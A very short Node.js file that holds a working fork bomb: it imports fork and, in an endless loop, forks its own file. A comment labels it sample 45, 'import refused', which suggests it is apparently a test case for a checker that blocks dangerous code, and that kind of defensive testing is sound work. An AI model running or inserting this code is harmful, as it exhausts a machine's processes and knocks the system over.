// 45 import refused 0: starts processes that start processes.
// base: starter
import { fork } from 'node:child_process';
for (;;) fork(import.meta.filename);
